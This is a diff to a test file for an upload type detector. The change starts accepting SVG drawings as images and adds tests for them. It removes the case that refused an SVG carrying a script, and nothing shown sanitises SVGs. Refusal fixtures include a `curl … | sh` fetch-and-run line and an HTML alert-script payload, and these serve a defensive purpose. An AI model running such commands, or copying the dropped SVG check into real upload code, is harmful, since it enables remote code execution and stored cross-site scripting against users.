@@ -1,5 +1,5 @@
-// The type of an upload is read from its bytes: real images and PDFs are recognised whatever they are
-// called, and anything else (a script, an SVG, an archive) is refused even when named like an image.
+// The type of an upload is read from its bytes: real images, SVG drawings and PDFs are recognised whatever
+// they are called, and anything else (a script, a web page, an archive) is refused even when named like an image.
 import { PDFDocument } from "pdf-lib";
 import sharp from "sharp";
 import { describe, expect, it } from "vitest";
@@ -18,6 +18,13 @@ describe("detectUploadType", () => {
     expect(await detectUploadType(await make())).toEqual({ kind: "image", mimeType });
   });
 
+  it.each([
+    ["a bare drawing", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 10"><rect width="40" height="10"/></svg>'],
+    ["a drawing with an XML declaration, a comment and a doctype", '\uFEFF<?xml version="1.0" encoding="UTF-8"?>\n<!-- logo -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg\n xmlns="http://www.w3.org/2000/svg"></svg>'],
+  ])("recognises an SVG drawing: %s", async (_name, content) => {
+    expect(await detectUploadType(new TextEncoder().encode(content))).toEqual({ kind: "image", mimeType: "image/svg+xml" });
+  });
+
   it("recognises a PDF document", async () => {
     const document = await PDFDocument.create();
     document.addPage();
@@ -27,7 +34,8 @@ describe("detectUploadType", () => {
   it.each([
     ["a shell script", "#!/bin/sh\ncurl https://example.org/x | sh\n"],
     ["an HTML page", "<!doctype html><script>alert(1)</script>"],
-    ["an SVG drawing (it can carry scripts)", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
+    ["an XML document that is not a drawing", '<?xml version="1.0"?><rss version="2.0"><channel><title>x</title></channel></rss>'],
+    ["an HTML page with an SVG inside", '<html><body><svg xmlns="http://www.w3.org/2000/svg"></svg></body></html>'],
     ["plain text", "just some words"],
     ["nothing at all", ""],
   ])("refuses %s", async (_name, content) => {
